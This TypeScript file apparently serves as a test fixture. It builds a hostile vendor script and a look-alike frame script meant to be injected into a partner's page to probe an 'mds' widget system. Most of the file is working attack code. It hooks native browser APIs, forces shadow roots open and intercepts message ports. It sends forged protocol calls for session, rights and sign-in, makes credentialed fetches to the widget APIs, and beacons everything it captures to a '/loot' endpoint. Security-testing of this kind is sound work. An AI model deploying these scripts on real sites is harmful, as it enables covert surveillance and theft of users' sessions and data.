/**
 * What a hostile vendor puts into a partner's page, before anything of ours: each function here is sent to the page as
 * its own text, and runs there. All that they see goes to the vendor's server as {@link Note}s.
 */

export interface Note {
  /** By which way it was seen. */
  readonly by: string;
  /** Which frame or tag it is about; empty where it is about none. */
  readonly of: string;
  readonly seen: unknown;
  /** When, in milliseconds: what is sent first need not arrive first. */
  readonly at: number;
}

declare global {
  interface Window {
    note(by: string, of: string, ...seen: unknown[]): void;
    /** A name for a frame that is the same whenever the page is loaded: its tag and domain, or its path. */
    labelOf(frame: Element): string;
    /** Every shadow root that a script has attached here, and every frame in it or in the page. */
    readonly roots: ShadowRoot[];
    allFrames(): HTMLIFrameElement[];
    /** Asks everybody for what is not the page's, in every way that a page has. */
    pry(widgets: string, portal: string, partner: string): Promise<void>;
  }
}

/** Writes down what is seen, as text, with the functions as they were before anybody patched them. */
function notebook(): void {
  const beacon = navigator.sendBeacon.bind(navigator);
  const { stringify } = JSON;
  const serializer = new XMLSerializer();
  const assign = Object.assign.bind(Object);
  const dull = { view: 0, srcElement: 0, currentTarget: 0, target: 0, path: 0, sourceCapabilities: 0 };
  let notes: unknown[] = [];
  const flush = () => {
    if (notes.length > 0) beacon('/loot', stringify(notes));
    notes = [];
  };
  const inWords = (value: unknown, depth = 0): unknown => {
    if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return value;
    if (depth > 4) return '…';
    if (value instanceof Node) return serializer.serializeToString(value);
    if (value instanceof Error) return `${value.name}: ${value.message}`;
    if (typeof value === 'function') return 'function';
    if (Array.isArray(value)) return value.slice(0, 50).map((item) => inWords(item, depth + 1));
    const words: Record<string, unknown> = {};
    for (const key in value) {
      if (key in dull) continue;
      try {
        const field: unknown = Reflect.get(value, key);
        if (typeof field !== 'function') words[key] = inWords(field, depth + 1);
      } catch (error) {
        words[key] = String(error);
      }
    }
    return words;
  };
  const roots: ShadowRoot[] = [];
  assign(window, {
    roots,
    note(by: string, of: string, ...seen: unknown[]) {
      notes.push({
        by,
        of,
        seen: inWords(seen.length === 1 ? seen[0] : seen),
        at: performance.timeOrigin + performance.now(),
      });
      if (notes.length > 100) flush();
    },
    labelOf(frame: Element) {
      const root = frame.getRootNode();
      const host = root instanceof ShadowRoot ? root.host : frame;
      if (host.localName.startsWith('mds-'))
        return `${host.localName} ${host.getAttribute('domain') ?? ''}`.trim();
      return frame instanceof HTMLIFrameElement && frame.src ? new URL(frame.src).pathname : frame.localName;
    },
    allFrames: () => [document, ...roots].flatMap((root) => [...root.querySelectorAll('iframe')]),
  });
  setInterval(flush, 50);
  addEventListener('pagehide', flush);
}

/** Takes the place of whatever a script in the page might call, and listens in. */
function patches(): void {
  const { note, labelOf, roots } = window;
  let busy = false;
  /** Notes, unless noting itself came this way. */
  const hear = (by: string, of: string, ...seen: unknown[]) => {
    if (busy) return;
    busy = true;
    try {
      note(by, of, ...seen);
    } finally {
      busy = false;
    }
  };

  type Anything = (...args: unknown[]) => unknown;
  const patch = (owner: object, name: string, around: (original: Anything) => Anything) => {
    const original: unknown = Reflect.get(owner, name);
    if (typeof original === 'function') Reflect.set(owner, name, around(original as Anything));
  };
  const overhear = (owner: object, names: string[]) => {
    for (const name of names)
      patch(
        owner,
        name,
        (original) =>
          function (this: unknown, ...args) {
            hear(`call ${name}`, '', ...args);
            return Reflect.apply(original, this, args);
          },
      );
  };
  const overhearSetters = (owner: object, names: string[]) => {
    for (const name of names) {
      const property = Object.getOwnPropertyDescriptor(owner, name);
      if (!property?.set || !property.configurable) continue;
      const { set } = property;
      Object.defineProperty(owner, name, {
        ...property,
        set(this: unknown, value: unknown) {
          hear(`set ${name}`, '', value);
          Reflect.apply(set, this, [value]);
        },
      });
    }
  };

  patch(
    Element.prototype,
    'attachShadow',
    (original) =>
      function (this: unknown, init) {
        const root: unknown = Reflect.apply(original, this, [Object.assign({}, init, { mode: 'open' })]);
        if (root instanceof ShadowRoot) {
          roots.push(root);
          window.dispatchEvent(new CustomEvent('root', { detail: root }));
        }
        return root;
      },
  );

  const listenIn = (listener: unknown): unknown =>
    typeof listener === 'function'
      ? function (this: unknown, event: unknown) {
          hear('listener', '', event);
          Reflect.apply(listener, this, [event]);
        }
      : listener;
  patch(
    EventTarget.prototype,
    'addEventListener',
    (original) =>
      function (this: unknown, type, listener, ...more) {
        return Reflect.apply(original, this, [
          type,
          type === 'root' ? listener : listenIn(listener),
          ...more,
        ]);
      },
  );

  /** Each port by the frame that the other end went to. */
  const ports = new Map<unknown, string>();
  const siblings = new Map<unknown, unknown>();
  const Channel = MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      siblings.set(this.port2, this.port1).set(this.port1, this.port2);
    }
  };
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(this: MessagePort, listener: unknown) {
      const heard = (event: unknown) => {
        hear('port', ports.get(this) ?? '', Reflect.get(Object(event), 'data'));
        if (typeof listener === 'function') Reflect.apply(listener, this, [event]);
      };
      if (onmessage?.set) Reflect.apply(onmessage.set, this, [heard]);
    },
  });
  const contentWindow = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
  Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
    ...contentWindow,
    get(this: HTMLIFrameElement) {
      const real: unknown = contentWindow?.get && Reflect.apply(contentWindow.get, this, []);
      if (!(real instanceof Object) && typeof real !== 'object') return real;
      return {
        postMessage: (message: unknown, origin: string, transfer: Transferable[]) => {
          hear('post', labelOf(this), message);
          const [port] = transfer;
          const kept = siblings.get(port);
          ports.set(kept, labelOf(this));
          Reflect.apply(Reflect.get(real ?? {}, 'postMessage') as Anything, real, [
            message,
            origin,
            transfer,
          ]);
          // The page keeps the other end: it may ask there what a frame asks the controller.
          for (const operation of ['session', 'rights', 'accesses', 'startSignIn'])
            if (kept instanceof MessagePort)
              kept.postMessage({ type: 'call', id: 1, operation, argument: 'family' });
        },
      };
    },
  });

  overhear(window, ['fetch', 'postMessage', 'open', 'structuredClone']);
  overhear(XMLHttpRequest.prototype, ['open', 'send', 'setRequestHeader']);
  overhear(MessagePort.prototype, ['postMessage']);
  overhear(Navigator.prototype, ['sendBeacon']);
  overhear(Element.prototype, ['setAttribute', 'append', 'prepend', 'replaceChildren']);
  overhear(Node.prototype, ['appendChild', 'insertBefore']);
  overhear(EventTarget.prototype, ['dispatchEvent']);
  overhear(History.prototype, ['pushState', 'replaceState']);
  overhear(CustomElementRegistry.prototype, ['define']);
  overhear(CSSStyleSheet.prototype, ['replaceSync', 'insertRule']);
  overhear(CSSStyleDeclaration.prototype, ['setProperty']);
  overhear(JSON, ['stringify', 'parse']);
  overhear(Object, ['assign', 'entries']);
  overhear(RegExp.prototype, ['test', 'exec']);
  overhear(Map.prototype, ['set']);
  overhear(Array.prototype, ['includes']);
  overhear(String.prototype, ['split', 'replace']);
  overhear(URLSearchParams.prototype, ['toString', 'append']);
  overhearSetters(HTMLIFrameElement.prototype, ['src', 'srcdoc', 'name', 'allow', 'sandbox']);
  overhearSetters(HTMLElement.prototype, ['title', 'lang', 'innerText', 'tabIndex']);
  overhearSetters(Element.prototype, ['innerHTML', 'className', 'ariaLabel', 'id']);
  overhearSetters(Node.prototype, ['textContent', 'nodeValue']);
  overhearSetters(CSSStyleDeclaration.prototype, ['cssText', 'height']);
}

/** Watches what changes: the page, every root, the size of every frame, addresses, and what the browser measures. */
function watchers(): void {
  const { note, labelOf, roots, allFrames } = window;
  const look = () => note('address', '', [location.href, document.referrer, window.name, history.length]);
  look();
  for (const type of ['hashchange', 'popstate', 'pageshow', 'pagehide', 'focus', 'blur'])
    addEventListener(type, look);
  navigation.addEventListener('navigate', ({ destination }) => note('navigate', '', destination.url));

  const everything = {
    subtree: true,
    childList: true,
    characterData: true,
    attributes: true,
    attributeOldValue: true,
  };
  const mutations = new MutationObserver((records) => {
    for (const { type, target, attributeName, addedNodes } of records) {
      const of = target instanceof Element ? labelOf(target) : '';
      const value = target instanceof Element && attributeName ? target.getAttribute(attributeName) : null;
      if (type === 'attributes') note('attribute', of, [attributeName, value]);
      else note('mutation', of, target, ...addedNodes);
    }
  });
  mutations.observe(document, everything);
  addEventListener('root', (event) => {
    const root: unknown = Reflect.get(event, 'detail');
    if (root instanceof ShadowRoot) mutations.observe(root, everything);
  });

  for (const type of [
    'mds-ready',
    'mds-error',
    'mds-toggle',
    'mds-session-change',
    'message',
    'focusin',
    'scroll',
  ])
    addEventListener(
      type,
      (event) => {
        const of = event.target instanceof Element ? labelOf(event.target) : '';
        note('event', of, [event.type, Object.entries(event).filter(([name]) => name !== 'isTrusted')]);
      },
      true,
    );

  const heights = new Map<Element, string>();
  const measure = (frame: Element, by: string) => {
    const { height, width } = frame.getBoundingClientRect();
    const now = `${width} × ${height}`;
    if (heights.get(frame) === now) return;
    heights.set(frame, now);
    note(by, labelOf(frame), now);
  };
  const sizes = new ResizeObserver((entries) => {
    for (const { target } of entries) measure(target, 'height');
  });
  const watched = new WeakSet<Element>();
  const each = () => {
    for (const frame of allFrames()) {
      if (!watched.has(frame)) sizes.observe(frame);
      watched.add(frame);
      measure(frame, 'height');
    }
    const page = `${document.documentElement.scrollHeight} ${window.length} ${document.activeElement?.localName ?? ''}`;
    if (page !== reported) note('page', '', (reported = page));
    requestAnimationFrame(each);
  };
  let reported = '';
  each();

  new PerformanceObserver((list) => {
    for (const { name, entryType } of list.getEntries())
      if (entryType !== 'longtask') note('performance', '', `${entryType} ${name}`);
  }).observe({
    entryTypes: ['resource', 'navigation', 'element', 'layout-shift', 'event', 'first-input', 'paint'],
  });
  new BroadcastChannel('mds').onmessage = ({ data }) => note('look-alike answered', '', data);
  addEventListener('pagehide', () => {
    for (const root of roots) note('root', labelOf(root.host), root);
  });
}

/** Prying: in words of our own protocol to every frame, and by all requests that a page can make. */
function prying(): void {
  const { note, allFrames, labelOf } = window;
  const asFrames = (say: (frame: Window, port: MessagePort) => void) => {
    for (let index = 0; index < window.length; index++) {
      const frame = window[index];
      if (!frame) continue;
      const { port1, port2 } = new MessageChannel();
      port1.addEventListener('message', ({ data }) => note('pried', String(index), data));
      port1.start();
      say(frame, port2);
      for (const operation of ['session', 'rights', 'accesses', 'catalogue'])
        port1.postMessage({ type: 'call', id: 7, operation, argument: 'family' });
    }
  };
  const peek = (label: string, look: () => unknown) => {
    try {
      note('peeked', label, look());
    } catch {
      // as it should be
    }
  };

  window.pry = async (widgets, portal, partner) => {
    for (const message of [
      { type: 'connect', partner },
      {
        mds: 1,
        type: 'init',
        tag: 'mds-rights-bubble',
        lang: 'fr',
        theme: 'light',
        tokens: {},
        attributes: {},
      },
      { mds: 1, type: 'init-controller', lang: 'fr' },
      { type: 'session-changed' },
      { type: 'hello' },
    ])
      asFrames((frame, port) => frame.postMessage(message, '*', [port]));
    for (const frame of allFrames()) {
      const label = labelOf(frame);
      const inner: unknown = frame.contentDocument;
      if (inner !== null && !frame.src.startsWith(location.origin)) note('peeked', label, inner);
    }
    for (let index = 0; index < window.length; index++)
      for (const property of ['document', 'name', 'localStorage', 'mds', 'origin', 'performance'])
        peek(String(index), () => Reflect.get(window[index] ?? {}, property) as unknown);

    const addresses = ['session', 'rights/family', 'accesses', 'me'].flatMap((name) =>
      [widgets, portal].map((host) => `${host}/v1/${name}`),
    );
    const asked = addresses.flatMap((address) =>
      [{ headers: { 'Mds-Partner': partner } }, { mode: 'no-cors' as const }, {}].map(async (options) => {
        const response = await fetch(address, { credentials: 'include', ...options });
        note('fetched', address, await response.text());
      }),
    );
    const loaded = addresses.map(
      (address) =>
        new Promise<void>((resolve) => {
          const script = document.createElement('script');
          script.src = address;
          script.onload = script.onerror = () => resolve();
          document.head.append(script);
        }),
    );
    await Promise.allSettled([...asked, ...loaded]);
  };
}

const asScript = (...functions: (() => void)[]) =>
  functions.map((code) => `(${code.toString()})();`).join('\n');

/** The vendor's script. */
export const HOSTILE_SCRIPT = asScript(notebook, patches, watchers, prying);

/** A frame that pretends to be one of ours, towards the page's other frames. */
function pretend(): void {
  document.documentElement.dataset.mdsController = '';
  addEventListener('message', ({ origin, data, ports }: MessageEvent<unknown>) =>
    window.note('look-alike heard', origin, [data, ports.length]),
  );
  const channel = new BroadcastChannel('mds');
  channel.onmessage = ({ data }) => window.note('look-alike answered', '', data);
  const messages = [
    { type: 'connect', partner: 'guest-exemple' },
    { mds: 1, type: 'init-controller', lang: 'fr' },
    {
      mds: 1,
      type: 'init',
      tag: 'mds-rights-bubble',
      lang: 'fr',
      theme: 'light',
      tokens: {},
      attributes: {},
    },
    { type: 'session', signedIn: true },
  ];
  setInterval(() => {
    channel.postMessage({ type: 'hello' });
    const siblings = Array.from({ length: parent.length }, (_, index) => parent[index]);
    for (const sibling of siblings)
      for (const message of messages) {
        if (sibling === window) continue;
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => window.note('look-alike answered', '', data);
        sibling?.postMessage(message, '*', [port2]);
        for (const operation of ['session', 'rights'])
          port1.postMessage({ type: 'call', id: 1, operation, argument: 'family' });
      }
  }, 1000);
}

export const LOOK_ALIKE_SCRIPT = asScript(notebook, pretend);
